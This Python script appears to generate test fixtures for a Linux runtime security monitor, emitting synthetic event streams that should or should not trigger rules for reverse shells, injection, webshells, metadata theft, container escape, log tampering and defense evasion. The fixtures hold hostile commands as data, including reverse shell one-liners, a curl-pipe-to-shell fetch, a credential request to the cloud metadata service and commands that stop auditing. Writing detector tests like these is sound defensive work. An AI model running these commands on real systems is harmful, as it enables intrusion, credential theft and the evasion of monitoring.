#!/usr/bin/env python3
# gen_recordings.py - writes the rule recordings in this directory (<rule>.fire.jsonl / <rule>.miss.jsonl).
# Each file: a "# expect: <rule ids>" line (exactly the rules that must fire over the file; empty for a
# near miss), then one event JSON object per line with the keys of docs/API.md. Run it after editing.
import json, os, sys

HERE = os.path.dirname(os.path.abspath(__file__))
T0 = [1764427000]

def t():
    T0[0] += 1
    return "2026-11-29T14:%02d:%02d.000000Z" % ((T0[0] // 60) % 60, T0[0] % 60)

SESS = "/user.slice/user-1000.slice/session-2.scope"
POD = "/kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod1a2b.slice/cri-containerd-%s.scope"
CID = "4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f4f1e0c9a7b3d2e1f"

def ev(type, pid, ppid, exe, comm=None, uid=1000, **kw):
    e = {"kind": "event", "type": type, "time": t(), "pid": pid, "tid": pid, "ppid": ppid,
         "uid": uid, "gid": uid, "auid": 1000 if uid else 4294967295,
         "comm": comm or os.path.basename(exe)[:15], "exe": exe}
    if "cgroup" not in kw:
        e["cgroup"] = SESS
    e.update(kw)
    return e

def exe(pid, ppid, path, args, uid=1000, comm=None, cwd="/home/u", filename=None, **kw):
    return ev("exec", pid, ppid, path, comm=comm, uid=uid, args=args, cwd=cwd,
              filename=filename or path, stdin_socket=kw.pop("stdin_socket", False),
              stdout_socket=kw.pop("stdout_socket", False), **kw)

def fork(pid, ppid, path, comm=None, uid=1000, **kw):
    return ev("fork", pid, ppid, path, comm=comm, uid=uid, **kw)

def conn(pid, ppid, path, addr, port, family="inet", uid=1000, protocol="tcp", **kw):
    if family in ("inet", "inet6"):
        kw["protocol"] = protocol
    return ev("connect", pid, ppid, path, uid=uid, family=family, dst_addr=addr, dst_port=port, **kw)

def dup(pid, ppid, path, newfd, addr="127.0.0.1", port=4444, family="inet", oldfd=3, uid=1000):
    e = ev("dup", pid, ppid, path, uid=uid, family=family, oldfd=oldfd, newfd=newfd)
    if family in ("inet", "inet6"):
        e["dst_addr"] = addr
        e["dst_port"] = port
    return e

def peer(family="inet", addr="127.0.0.1", port=4444):
    p = {"family": family, "type": "stream"}
    if family in ("inet", "inet6"):
        p["addr"] = addr
        p["port"] = port
    return p

# a login: systemd -> sshd -> bash (uid 1000)
BASE = [
    exe(1, 0, "/usr/lib/systemd/systemd", ["/sbin/init"], uid=0, cwd="/", cgroup="/init.scope"),
    exe(500, 1, "/usr/sbin/sshd", ["sshd", "-D"], uid=0, cwd="/", cgroup="/system.slice/ssh.service"),
    fork(1000, 500, "/usr/sbin/sshd", uid=0),
    exe(1000, 500, "/usr/bin/bash", ["-bash"], comm="bash"),
]

def fil(pid, ppid, path, exe, ops, uid=0, **kw):
    """A file event: the path the kernel resolved and what was done (file_op names)."""
    return ev("file", pid, ppid, exe, uid=uid, path=path, file_op=ops, **kw)

def in_pod(e):
    e["cgroup"] = POD % CID
    e["container_id"] = CID
    return e

R = {}

# ---------------------------------------------------------------- reverse_shell
R["reverse_shell.fire"] = [
    # bash -i >& /dev/tcp/127.0.0.1/4444 0>&1: bash connects, then dup2s the socket onto 1 and 0
    fork(2000, 1000, "/usr/bin/bash"),
    exe(2000, 1000, "/usr/bin/bash", ["bash", "-i"]),
    conn(2000, 1000, "/usr/bin/bash", "127.0.0.1", 4444),
    dup(2000, 1000, "/usr/bin/bash", 1), dup(2000, 1000, "/usr/bin/bash", 0),
    # nc -e /bin/sh: nc with an exec option, then the shell it runs has the socket on stdin
    fork(2100, 1000, "/usr/bin/bash"),
    exe(2100, 1000, "/usr/bin/nc.traditional", ["nc", "-e", "/bin/sh", "127.0.0.1", "4444"], comm="nc"),
    exe(2100, 1000, "/usr/bin/dash", ["/bin/sh"], comm="sh", filename="/bin/sh",
        stdin_socket=True, stdout_socket=True, stdin_peer=peer(), stdout_peer=peer()),
    # python -c 'import socket,os,pty; s=...; os.dup2(s.fileno(),0..2); pty.spawn("/bin/bash")'
    fork(2200, 1000, "/usr/bin/bash"),
    exe(2200, 1000, "/usr/bin/python3.11", ["python3", "-c", "import socket,os,pty;..."], comm="python3"),
    conn(2200, 1000, "/usr/bin/python3.11", "::1", 9001, family="inet6"),
    dup(2200, 1000, "/usr/bin/python3.11", 0, addr="::1", port=9001, family="inet6"),
    fork(2201, 2200, "/usr/bin/python3.11"),
    exe(2201, 2200, "/usr/bin/bash", ["/bin/bash"], filename="/bin/bash"),
    # socat tcp:127.0.0.1:4444 exec:'bash -li',pty,stderr,setsid
    fork(2300, 1000, "/usr/bin/bash"),
    exe(2300, 1000, "/usr/bin/socat", ["socat", "tcp:127.0.0.1:4444", "exec:bash -li,pty,stderr,setsid"]),
    fork(2301, 2300, "/usr/bin/socat"),
    exe(2301, 2300, "/usr/bin/bash", ["bash", "-li"]),
    # gawk 'BEGIN { s = "/inet/tcp/0/127.0.0.1/4444"; ... }'
    fork(2400, 1000, "/usr/bin/bash"),
    exe(2400, 1000, "/usr/bin/gawk", ["gawk", "BEGIN {s=\"/inet/tcp/0/127.0.0.1/4444\"}"], comm="gawk"),
    conn(2400, 1000, "/usr/bin/gawk", "127.0.0.1", 4444),
    # any process to a C2 port off the host
    fork(2500, 1000, "/usr/bin/bash"),
    exe(2500, 1000, "/usr/bin/curl", ["curl", "http://203.0.113.7:4444/x"]),
    conn(2500, 1000, "/usr/bin/curl", "203.0.113.7", 4444),
    # busybox nc -e (dup2 of the socket in busybox itself)
    fork(2600, 1000, "/usr/bin/bash"),
    exe(2600, 1000, "/usr/bin/busybox", ["busybox", "nc", "127.0.0.1", "4444", "-e", "sh"]),
    # ncat -c (--sh-exec)
    exe(2700, 1000, "/usr/bin/ncat", ["ncat", "-c", "bash -i", "127.0.0.1", "4444"]),
]
R["reverse_shell.miss"] = [
    # ssh host 'ls': sshd runs the shell on a socketpair (unix), not an inet socket
    fork(3000, 500, "/usr/sbin/sshd", uid=0),
    exe(3000, 500, "/usr/bin/bash", ["bash", "-c", "ls"], stdin_socket=True, stdout_socket=True,
        stdin_peer=peer("unix"), stdout_peer=peer("unix")),
    # a dev server on a "C2" port on loopback, and ordinary https
    exe(3100, 1000, "/usr/bin/curl", ["curl", "http://127.0.0.1:8081/"]),
    conn(3100, 1000, "/usr/bin/curl", "127.0.0.1", 8081),
    conn(3100, 1000, "/usr/bin/curl", "93.184.216.34", 443),
    # python scripts connect out; bash talks to unix sockets
    exe(3200, 1000, "/usr/bin/python3.11", ["python3", "fetch.py"], comm="python3"),
    conn(3200, 1000, "/usr/bin/python3.11", "10.0.0.5", 443),
    dup(3200, 1000, "/usr/bin/python3.11", 1, family="unix"),
    conn(1000, 500, "/usr/bin/bash", "", 0, family="unix"),
    # relays without an exec option; openssl enc -e is "encrypt"; telnet -e is the escape char
    exe(3300, 1000, "/usr/bin/ncat", ["ncat", "127.0.0.1", "80"]),
    exe(3400, 1000, "/usr/bin/openssl", ["openssl", "enc", "-e", "-aes-256-cbc", "-in", "f"]),
    exe(3500, 1000, "/usr/bin/telnet.netkit", ["telnet", "-e", "^]", "10.0.0.1"], comm="telnet"),
    # OpenBSD nc: -c is TLS / CRLF there, not "run a command"
    exe(3510, 1000, "/usr/bin/nc.openbsd", ["nc", "-c", "imap.example", "993"], comm="nc"),
    # shells from an interactive session and from make
    exe(3600, 1000, "/usr/bin/make", ["make", "-j2"]),
    exe(3601, 3600, "/usr/bin/dash", ["/bin/sh", "-c", "cc -c a.c"], comm="sh"),
]

# ---------------------------------------------------------------- injection_attempt
R["injection_attempt.fire"] = [
    exe(4000, 1, "/usr/sbin/cron", ["cron"], uid=0, cgroup="/system.slice/cron.service"),
    exe(5000, 1000, "/usr/bin/python3.11", ["python3", "inject.py", "4000"], comm="python3"),
    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_ATTACH", target_pid=4000,
       target_ppid=1),
    ev("ptrace", 5000, 1000, "/usr/bin/python3.11", ptrace_request="PTRACE_POKETEXT", target_pid=4000,
       target_ppid=1),
    ev("mmap", 5000, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_WRITE", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1, addr=140000000000, len=4096),
    exe(5100, 1000, "/usr/bin/perl", ["perl", "x.pl"]),
    ev("mprotect", 5100, 1000, "/usr/bin/perl", prot=["PROT_READ", "PROT_EXEC"], addr=140000000000,
       len=4096, vma_anon=True, vma_write=True, vma_exec=False),
    ev("process_vm_writev", 5000, 1000, "/usr/bin/python3.11", target_pid=4000, target_ppid=1),
    ev("memfd_create", 5000, 1000, "/usr/bin/python3.11", memfd_name="", memfd_flags=["MFD_CLOEXEC"]),
]
R["injection_attempt.miss"] = [
    # strace / gdb on their own child
    exe(6000, 1000, "/usr/bin/strace", ["strace", "-f", "ls"]),
    fork(6001, 6000, "/usr/bin/strace"),
    ev("ptrace", 6001, 6000, "/usr/bin/strace", ptrace_request="PTRACE_TRACEME", target_pid=0),
    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_SEIZE", target_pid=6001,
       target_ppid=6000),
    # (the kernel's relation says child even when the table's is stale: adopted by a subreaper)
    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_ATTACH", target_pid=6001,
       target_ppid=5999, target_is_child=True, target_is_parent=False),
    # LeakSanitizer (ASan builds): its tracer, a child sharing the address space, attaches to its parent
    exe(6050, 1000, "/home/u/proj/build/test_x", ["./test_x"], cwd="/tmp/ci/build"),
    fork(6051, 6050, "/home/u/proj/build/test_x"),
    ev("ptrace", 6051, 6050, "/home/u/proj/build/test_x", comm="test_x", ptrace_request="PTRACE_ATTACH",
       target_pid=6050, target_ppid=1000),
    # reading another process is not injection
    ev("ptrace", 6000, 1000, "/usr/bin/strace", ptrace_request="PTRACE_PEEKDATA", target_pid=4000,
       target_ppid=1),
    # JITs
    exe(6100, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java", ["java", "-jar", "app.jar"]),
    ev("mmap", 6100, 1000, "/usr/lib/jvm/java-17-openjdk-amd64/bin/java",
       prot=["PROT_READ", "PROT_WRITE", "PROT_EXEC"], flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1),
    exe(6200, 1000, "/usr/bin/node", ["node", "server.js"]),
    ev("mprotect", 6200, 1000, "/usr/bin/node", prot=["PROT_READ", "PROT_EXEC"], vma_anon=True,
       vma_write=True, vma_exec=False),
    # ld.so: file-backed r-x; malloc: anonymous rw-; RELRO-like mprotect of a file mapping
    exe(6300, 1000, "/usr/bin/python3.11", ["python3", "app.py"], comm="python3"),
    ev("mmap", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"],
       flags=["MAP_PRIVATE", "MAP_DENYWRITE"], fd=3),
    ev("mmap", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_WRITE"],
       flags=["MAP_PRIVATE", "MAP_ANONYMOUS"], fd=-1),
    ev("mprotect", 6300, 1000, "/usr/bin/python3.11", prot=["PROT_READ", "PROT_EXEC"], vma_anon=False,
       vma_write=False, vma_exec=False),
    # memfds: sealed (Wayland, glib), no-exec sealed, systemd's own
    ev("memfd_create", 6300, 1000, "/usr/bin/python3.11", memfd_name="buf",
       memfd_flags=["MFD_CLOEXEC", "MFD_NOEXEC_SEAL"]),
    exe(6400, 1, "/usr/lib/systemd/systemd-journald", ["/lib/systemd/systemd-journald"], uid=0,
        cgroup="/system.slice/systemd-journald.service"),
    ev("memfd_create", 6400, 1, "/usr/lib/systemd/systemd-journald", uid=0, memfd_name="journal-data",
       memfd_flags=["MFD_CLOEXEC"], cgroup="/system.slice/systemd-journald.service"),
    # (MFD_ALLOW_SEALING alone is no exemption: sealing is a later fcntl rtmon does not see; a known user by path)
    ev("memfd_create", 6310, 1, "/usr/bin/Xwayland", memfd_name="wl_shm",
       memfd_flags=["MFD_CLOEXEC", "MFD_ALLOW_SEALING"]),
    # process_vm_writev to itself
    ev("process_vm_writev", 6300, 1000, "/usr/bin/python3.11", target_pid=6300, target_ppid=1000),
]

# ---------------------------------------------------------------- suspicious_exec
R["suspicious_exec.fire"] = [
    exe(7000, 1000, "/tmp/payload", ["./payload"], filename="./payload", cwd="/tmp"),
    exe(7001, 1000, "/dev/shm/kworker", ["[kworker/0:1]"], comm="kworker/0:1"),
    # a symlink in /tmp to a system binary: the path as executed is in /tmp
    exe(7002, 1000, "/usr/bin/ls", ["ls"], filename="/tmp/ls"),
    # fileless: execveat on a memfd
    exe(7003, 1000, "/memfd:x (deleted)", ["x"], filename="/dev/fd/3", exe_memfd=True),
    # deleted after start
    exe(7004, 1000, "/home/u/tool", ["tool"], exe_deleted=True),
    # orphaned non-root process in a login session
    exe(7005, 1, "/usr/bin/sleep", ["sleep", "1000"]),
    # a payload run by a test script that make check runs: make is 4 levels up, not a build step
    exe(7100, 1000, "/usr/bin/make", ["make", "check"], cwd="/tmp/ci/build"),
    fork(7101, 7100, "/usr/bin/make"),
    exe(7101, 7100, "/usr/bin/dash", ["/bin/sh", "-c", "bash ../build-aux/test-driver ..."], comm="sh"),
    fork(7102, 7101, "/usr/bin/dash", comm="sh"),
    exe(7102, 7101, "/usr/bin/bash", ["bash", "../build-aux/test-driver", "--", "./sim.sh"], comm="test-driver"),
    fork(7103, 7102, "/usr/bin/bash", comm="test-driver"),
    exe(7103, 7102, "/usr/bin/bash", ["bash", "./sim.sh"], comm="sim.sh"),
    fork(7104, 7103, "/usr/bin/bash", comm="sim.sh"),
    exe(7104, 7103, "/tmp/rtmon-sim.abc/dropper", ["/tmp/rtmon-sim.abc/dropper"]),
]
R["suspicious_exec.miss"] = [
    # a build under /tmp runs what it compiled
    exe(8000, 1000, "/usr/bin/make", ["make", "check"], cwd="/tmp/rtmon-ci/build"),
    fork(8001, 8000, "/usr/bin/make"),
    exe(8001, 8000, "/tmp/rtmon-ci/build/tests/unit/test_x", ["./tests/unit/test_x"],
        filename="./tests/unit/test_x", cwd="/tmp/rtmon-ci/build"),
    # CI: ./configure run by make from a checkout under /tmp; configure re-executes itself in bash
    exe(8110, 1000, "/usr/bin/make", ["make", "distcheck"], cwd="/tmp/ci"),
    fork(8111, 8110, "/usr/bin/make"),
    exe(8111, 8110, "/usr/bin/dash", ["/bin/sh", "./configure"], comm="configure", cwd="/tmp/ci",
        filename="/tmp/ci/configure"),
    exe(8111, 8110, "/usr/bin/bash", ["/bin/bash", "./configure"], comm="bash", cwd="/tmp/ci",
        filename="/bin/bash"),
    fork(8112, 8111, "/usr/bin/bash"),
    exe(8112, 8111, "/tmp/ci/build/conftest", ["./conftest"], filename="./conftest", cwd="/tmp/ci/build"),
    # dpkg-buildpackage -> dh -> dh_auto_configure -> configure -> conftest (scripts: by the path run)
    exe(8140, 1000, "/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/dh", "build"], filename="/usr/bin/dh",
        comm="dh", cwd="/tmp/pkg"),
    fork(8141, 8140, "/usr/bin/perl", comm="dh"),
    exe(8141, 8140, "/usr/bin/perl", ["/usr/bin/perl", "/usr/bin/dh_auto_configure"],
        filename="/usr/bin/dh_auto_configure", comm="dh_auto_configu", cwd="/tmp/pkg"),
    fork(8142, 8141, "/usr/bin/perl", comm="dh_auto_configu"),
    exe(8142, 8141, "/usr/bin/dash", ["/bin/sh", "./configure"], comm="configure", cwd="/tmp/pkg",
        filename="./configure"),
    fork(8143, 8142, "/usr/bin/dash", comm="configure"),
    exe(8143, 8142, "/tmp/pkg/conftest", ["./conftest"], filename="./conftest", cwd="/tmp/pkg"),
    # pip building a package: its isolated build env runs a cmake wheel from /tmp
    exe(8150, 1000, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/pip", "install", "."],
        filename="/usr/bin/pip", comm="pip"),
    fork(8151, 8150, "/usr/bin/python3.11", comm="pip"),
    exe(8151, 8150, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/lib/python3/dist-packages/pip/_vendor/"
        "pyproject_hooks/_in_process/_in_process.py", "build_wheel", "/tmp/tmpq1"], filename="/usr/bin/python3",
        comm="python3"),
    fork(8152, 8151, "/usr/bin/python3.11", comm="python3"),
    exe(8152, 8151, "/tmp/pip-build-env-x1/overlay/local/lib/python3.11/dist-packages/cmake/data/bin/cmake",
        ["cmake", "--version"], filename="/tmp/pip-build-env-x1/overlay/local/bin/cmake"),
    # uv (a binary) doing the same
    exe(8160, 1000, "/home/u/.cargo/bin/uv", ["uv", "pip", "install", "."]),
    fork(8161, 8160, "/home/u/.cargo/bin/uv"),
    exe(8161, 8160, "/tmp/.tmpAbC/builds-v0/bin/ninja", ["ninja"]),
    # make -> sh -c '... && ./prog'
    exe(8120, 1000, "/usr/bin/make", ["make", "-j2"], cwd="/tmp/x"),
    fork(8121, 8120, "/usr/bin/make"),
    exe(8121, 8120, "/usr/bin/dash", ["/bin/sh", "-c", "cc -o prog m.o && ./prog"], comm="sh", cwd="/tmp/x"),
    fork(8122, 8121, "/usr/bin/dash", comm="sh"),
    exe(8122, 8121, "/tmp/x/prog", ["./prog"], filename="./prog", cwd="/tmp/x"),
    # npm ci -> sh -c 'node install.js' -> node -> a native binary from node_modules
    exe(8130, 1000, "/usr/bin/env", ["/usr/bin/env", "node", "/usr/bin/npm", "ci"], comm="npm",
        cwd="/tmp/ci/dashboard", filename="/usr/bin/npm"),
    exe(8130, 1000, "/usr/bin/node", ["npm", "ci"], comm="npm ci", cwd="/tmp/ci/dashboard"),
    fork(8131, 8130, "/usr/bin/node", comm="npm ci"),
    exe(8131, 8130, "/usr/bin/dash", ["sh", "-c", "node install.js"], comm="sh"),
    fork(8132, 8131, "/usr/bin/dash", comm="sh"),
    exe(8132, 8131, "/usr/bin/node", ["node", "install.js"]),
    fork(8133, 8132, "/usr/bin/node"),
    exe(8133, 8132, "/tmp/ci/dashboard/node_modules/@esbuild/linux-x64/bin/esbuild", ["esbuild", "--version"]),
    # system binaries run from /tmp as the cwd; a script in /tmp through its interpreter
    exe(8200, 1000, "/usr/bin/ls", ["ls"], cwd="/tmp"),
    exe(8201, 1000, "/usr/bin/python3.11", ["python3", "/tmp/x/script.py"], comm="python3",
        filename="/usr/bin/python3"),
    # orphans that are root or services
    exe(8300, 1, "/usr/sbin/dhclient", ["dhclient"], uid=0, cgroup="/system.slice/ifup@eth0.service"),
    exe(8301, 1, "/usr/sbin/nginx", ["nginx"], uid=33, cgroup="/system.slice/nginx.service"),
    exe(8302, 1, "/usr/bin/sleep", ["sleep", "5"], uid=0),
    # runc re-executing its memfd copy (the same process: the image replaced is /usr/sbin/runc), then
    # runc init, that copy's child, running it again
    exe(8399, 1, "/usr/bin/containerd-shim-runc-v2", ["containerd-shim-runc-v2"], uid=0,
        cgroup="/system.slice/containerd.service"),
    fork(8400, 8399, "/usr/bin/containerd-shim-runc-v2", uid=0),
    exe(8400, 8399, "/usr/sbin/runc", ["runc", "create", "ctr"], uid=0),
    exe(8400, 8399, "/memfd:runc_cloned:/proc/self/exe (deleted)", ["runc", "create", "ctr"], uid=0,
        comm="runc", filename="/proc/self/fd/7", exe_memfd=True),
    fork(8401, 8400, "/memfd:runc_cloned:/proc/self/exe (deleted)", uid=0),
    exe(8401, 8400, "/memfd:runc_cloned:/proc/self/exe (deleted)", ["runc", "init"], uid=0,
        comm="runc:[2:INIT]", filename="/proc/self/exe", exe_memfd=True),
    # temp-like dirs that are root's only
    exe(8500, 1000, "/run/systemd/x", ["x"]),
]

# ---------------------------------------------------------------- webshell_spawn
R["webshell_spawn.fire"] = [
    exe(9000, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], uid=33, cgroup="/system.slice/php8.2-fpm.service"),
    fork(9001, 9000, "/usr/sbin/php-fpm8.2", uid=33, cgroup="/system.slice/php8.2-fpm.service"),
    exe(9001, 9000, "/usr/bin/dash", ["sh", "-c", "id;uname -a"], uid=33, comm="sh", filename="/bin/sh",
        cgroup="/system.slice/php8.2-fpm.service"),
    exe(9100, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=33,
        cgroup="/system.slice/apache2.service"),
    fork(9101, 9100, "/usr/sbin/apache2", uid=33, cgroup="/system.slice/apache2.service"),
    exe(9101, 9100, "/usr/bin/whoami", ["whoami"], uid=33, cgroup="/system.slice/apache2.service"),
    exe(9200, 1, "/usr/lib/postgresql/15/bin/postgres", ["postgres"], uid=112,
        cgroup="/system.slice/postgresql.service"),
    fork(9201, 9200, "/usr/lib/postgresql/15/bin/postgres", uid=112, cgroup="/system.slice/postgresql.service"),
    exe(9201, 9200, "/usr/bin/dash", ["sh", "-c", "curl http://203.0.113.9/x|sh"], uid=112, comm="sh",
        cgroup="/system.slice/postgresql.service"),
]
R["webshell_spawn.miss"] = [
    exe(9300, 1, "/usr/sbin/php-fpm8.2", ["php-fpm: pool www"], uid=33, cgroup="/system.slice/php8.2-fpm.service"),
    fork(9301, 9300, "/usr/sbin/php-fpm8.2", uid=33, cgroup="/system.slice/php8.2-fpm.service"),
    exe(9301, 9300, "/usr/bin/dash", ["sh", "-c", "/usr/sbin/sendmail -t -i"], uid=33, comm="sh",
        filename="/bin/sh", cgroup="/system.slice/php8.2-fpm.service"),
    exe(9400, 1, "/usr/sbin/apache2", ["/usr/sbin/apache2", "-k", "start"], uid=0,
        cgroup="/system.slice/apache2.service"),
    fork(9401, 9400, "/usr/sbin/apache2", uid=0, cgroup="/system.slice/apache2.service"),
    exe(9401, 9400, "/usr/bin/dash", ["/bin/sh", "-c", "exec /usr/bin/rotatelogs /var/log/apache2/a.log 86400"],
        uid=0, comm="sh", filename="/bin/sh", cgroup="/system.slice/apache2.service"),
    fork(9402, 9400, "/usr/sbin/apache2", uid=0, cgroup="/system.slice/apache2.service"),
    exe(9402, 9400, "/usr/bin/dash", ["/bin/sh", "-c", "/usr/bin/logger -t apache -p local6.info"],
        uid=0, comm="sh", filename="/bin/sh", cgroup="/system.slice/apache2.service"),
    # nginx re-executing itself (binary upgrade), a user's shell running id
    exe(9500, 1, "/usr/sbin/nginx", ["nginx"], uid=0, cgroup="/system.slice/nginx.service"),
    exe(9501, 9500, "/usr/sbin/nginx", ["nginx"], uid=0, cgroup="/system.slice/nginx.service"),
    exe(9600, 1000, "/usr/bin/id", ["id"]),
]

# ---------------------------------------------------------------- cloud_metadata_access
R["cloud_metadata_access.fire"] = [
    exe(9700, 1000, "/usr/bin/curl", ["curl", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]),
    conn(9700, 1000, "/usr/bin/curl", "169.254.169.254", 80),
    in_pod(exe(9710, 9709, "/usr/bin/python3.11", ["python3", "steal.py"], uid=0, comm="python3")),
    in_pod(conn(9710, 9709, "/usr/bin/python3.11", "169.254.169.254", 80, uid=0)),
]
R["cloud_metadata_access.miss"] = [
    exe(9800, 1, "/usr/bin/amazon-ssm-agent", ["amazon-ssm-agent"], uid=0, cgroup="/system.slice/amazon-ssm-agent.service"),
    conn(9800, 1, "/usr/bin/amazon-ssm-agent", "169.254.169.254", 80, uid=0,
         cgroup="/system.slice/amazon-ssm-agent.service"),
    exe(9810, 1, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/bin/cloud-init", "init"], uid=0, filename="/usr/bin/cloud-init",
        comm="cloud-init", cgroup="/system.slice/cloud-init.service"),
    conn(9810, 1, "/usr/bin/python3.11", "169.254.169.254", 80, uid=0, comm="cloud-init",
         cgroup="/system.slice/cloud-init.service"),
    exe(9820, 1000, "/usr/bin/curl", ["curl", "http://169.254.169.253/"]),
    conn(9820, 1000, "/usr/bin/curl", "169.254.169.253", 53),
]

# ---------------------------------------------------------------- crypto_miner
R["crypto_miner.fire"] = [
    exe(10000, 1000, "/home/u/xmrig-6.21.0/xmrig", ["./xmrig", "-c", "config.json"], cwd="/home/u/xmrig-6.21.0"),
    # renamed, but the pool URL gives it away
    exe(10001, 1000, "/usr/local/bin/systemd-helper", ["systemd-helper", "-o", "stratum+tcp://pool.example:3333",
                                                       "-u", "4A..", "--donate-level=1"]),
]
R["crypto_miner.miss"] = [
    exe(10100, 1000, "/usr/bin/git", ["git", "clone", "https://github.com/xmrig/xmrig"]),
    exe(10101, 1000, "/usr/bin/curl", ["curl", "https://pool.example/stats"]),
    exe(10102, 1000, "/usr/bin/python3.11", ["python3", "mining_report.py"], comm="python3"),
]

# ---------------------------------------------------------------- container_escape
R["container_escape.fire"] = [
    in_pod(exe(10200, 10199, "/usr/bin/nsenter", ["nsenter", "-t", "1", "-m", "-u", "-i", "-n", "sh"], uid=0)),
    in_pod(exe(10201, 10199, "/usr/bin/mount", ["mount", "/dev/sda1", "/mnt"], uid=0)),
    in_pod(exe(10202, 10199, "/usr/bin/dash", ["sh", "-c", "echo /cmd > /tmp/cgrp/release_agent"], uid=0,
               comm="sh")),
]
R["container_escape.miss"] = [
    # an admin on the host
    exe(10300, 1000, "/usr/bin/nsenter", ["nsenter", "-t", "4242", "-n", "ip", "a"], uid=0),
    # ordinary container work
    in_pod(exe(10301, 10199, "/usr/bin/mount", ["mount", "-t", "tmpfs", "tmpfs", "/scratch"], uid=0)),
    in_pod(exe(10302, 10199, "/usr/bin/ls", ["ls", "/proc/1"], uid=0)),
]

# ---------------------------------------------------------------- network_scanner
R["network_scanner.fire"] = [
    exe(10400, 1000, "/usr/bin/nmap", ["nmap", "-sS", "10.0.0.0/24"], uid=0),
    in_pod(exe(10401, 10199, "/usr/local/bin/masscan", ["masscan", "-p1-65535", "10.0.0.0/8"], uid=0)),
]
R["network_scanner.miss"] = [
    exe(10500, 1000, "/usr/bin/ping", ["ping", "-c1", "10.0.0.1"]),
    exe(10501, 1000, "/usr/bin/ss", ["ss", "-tlnp"]),
]

# ---------------------------------------------------------------- log_tampering
R["log_tampering.fire"] = [
    exe(10600, 1000, "/usr/bin/shred", ["shred", "-u", "/root/.bash_history"], uid=0),
    exe(10601, 1000, "/usr/bin/ln", ["ln", "-sf", "/dev/null", "/root/.bash_history"], uid=0),
    exe(10602, 1000, "/usr/bin/journalctl", ["journalctl", "--vacuum-time=1s"], uid=0),
    # the kernel's file events: truncate -s 0 (ftruncate), a shell's '> /var/log/auth.log', rm, mv away
    exe(10603, 1000, "/usr/bin/truncate", ["truncate", "-s", "0", "/var/log/syslog"], uid=0),
    fil(10603, 1000, "/var/log/syslog", "/usr/bin/truncate", ["truncate"]),
    exe(10604, 1000, "/usr/sbin/auditctl", ["auditctl", "-D"], uid=0),
    exe(10605, 1000, "/usr/bin/rm", ["rm", "-f", "/var/log/wtmp"], uid=0),
    fil(10605, 1000, "/var/log/wtmp", "/usr/bin/rm", ["unlink"]),
    fil(1000, 500, "/var/log/auth.log", "/usr/bin/bash", ["write", "truncate"], open_flags=577, uid=1000),
    exe(10606, 1000, "/usr/bin/mv", ["mv", "/var/log/secure", "/tmp/s"], uid=0),
    fil(10606, 1000, "/var/log/secure", "/usr/bin/mv", ["rename"]),
]
R["log_tampering.miss"] = [
    exe(10700, 1, "/usr/sbin/logrotate", ["/usr/sbin/logrotate", "/etc/logrotate.conf"], uid=0,
        cgroup="/system.slice/logrotate.service"),
    exe(10701, 1000, "/usr/bin/rm", ["rm", "/tmp/app.log"]),
    exe(10702, 1000, "/usr/bin/journalctl", ["journalctl", "-u", "ssh", "--since", "today"]),
    exe(10703, 1000, "/usr/bin/truncate", ["truncate", "-s", "0", "/tmp/x"]),
    exe(10704, 1000, "/usr/sbin/auditctl", ["auditctl", "-e", "1"], uid=0),
    exe(10705, 1000, "/usr/bin/ln", ["ln", "-s", "/dev/null", "/tmp/devnull"]),
    # logrotate renames and truncates (copytruncate); journald vacuums its own files; dpkg's scripts
    fil(10700, 1, "/var/log/syslog", "/usr/sbin/logrotate", ["rename"], cgroup="/system.slice/logrotate.service"),
    fil(10700, 1, "/var/log/nginx/access.log", "/usr/sbin/logrotate", ["write", "truncate"],
        cgroup="/system.slice/logrotate.service"),
    fil(300, 1, "/var/log/journal/0a/system@0001.journal", "/usr/lib/systemd/systemd-journald", ["unlink"],
        cgroup="/system.slice/systemd-journald.service"),
    exe(10706, 1000, "/usr/bin/dpkg", ["dpkg", "-i", "foo.deb"], uid=0),
    exe(10707, 10706, "/usr/bin/dash", ["/bin/sh", "/var/lib/dpkg/info/foo.postinst", "configure"], uid=0,
        filename="/var/lib/dpkg/info/foo.postinst", comm="foo.postinst"),
    fil(10707, 10706, "/var/log/foo/old.log", "/usr/bin/dash", ["unlink"]),
    # appending to a log is what logs are for; a log created new with O_TRUNC truncated nothing (the kernel
    # drops truncate for a file its open created)
    fil(10708, 1000, "/var/log/app.log", "/usr/bin/python3.11", ["write"], open_flags=1089),
]

# ---------------------------------------------------------------- defense_evasion
R["defense_evasion.fire"] = [
    exe(10800, 1000, "/usr/sbin/setenforce", ["setenforce", "0"], uid=0),
    exe(10801, 1000, "/usr/bin/systemctl", ["systemctl", "stop", "auditd"], uid=0),
    exe(10802, 1000, "/usr/sbin/xtables-nft-multi", ["iptables", "-F"], uid=0, comm="iptables",
        filename="/usr/sbin/iptables"),
    exe(10803, 1000, "/usr/bin/python3.11", ["/usr/bin/python3", "/usr/sbin/ufw", "disable"], uid=0, comm="ufw",
        filename="/usr/sbin/ufw"),
    exe(10804, 1000, "/usr/bin/pkill", ["pkill", "-9", "rtmon"], uid=0),
    exe(10805, 1000, "/usr/bin/systemctl", ["systemctl", "mask", "--now", "rtmon.service"], uid=0),
]
R["defense_evasion.miss"] = [
    exe(10900, 1000, "/usr/bin/systemctl", ["systemctl", "restart", "nginx"], uid=0),
    exe(10901, 1000, "/usr/sbin/setenforce", ["setenforce", "1"], uid=0),
